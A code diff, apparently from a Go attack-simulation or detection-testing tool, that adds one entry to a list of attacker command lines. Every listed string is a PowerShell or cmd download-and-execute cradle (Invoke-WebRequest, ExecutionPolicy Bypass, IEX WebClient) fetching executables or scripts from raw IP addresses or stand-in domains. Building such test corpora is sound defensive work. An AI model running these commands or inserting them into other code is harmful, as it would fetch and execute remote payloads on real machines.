@@ -12,6 +12,7 @@ type script struct {
 // an operator types them, not as the simulator does.
 var attackScripts = []script{
 	{"iwr download and run", "powershell", `Invoke-WebRequest -Uri "http://185.220.101.47/upd/svchost.exe" -OutFile "$env:TEMP\svchost.exe"; Start-Process "$env:TEMP\svchost.exe"`},
+	{"bypass iwr from a domain", "cmd", `powershell.exe -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri 'https://cdn-update.example.net/kb/patch.exe' -OutFile $env:TEMP\patch.exe; & $env:TEMP\patch.exe"`},
 	{"bypass iwr from cmd", "cmd", `powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "iwr http://45.9.148.3/a.ps1 -OutFile C:\ProgramData\a.ps1; C:\ProgramData\a.ps1"`},
 	{"webclient iex cradle", "powershell", `IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.3/stage.ps1')`},
 	{"iex iwr cradle", "powershell", `iex (iwr -UseBasicParsing 'https://paste.example.net/raw/k2Jd8')`},
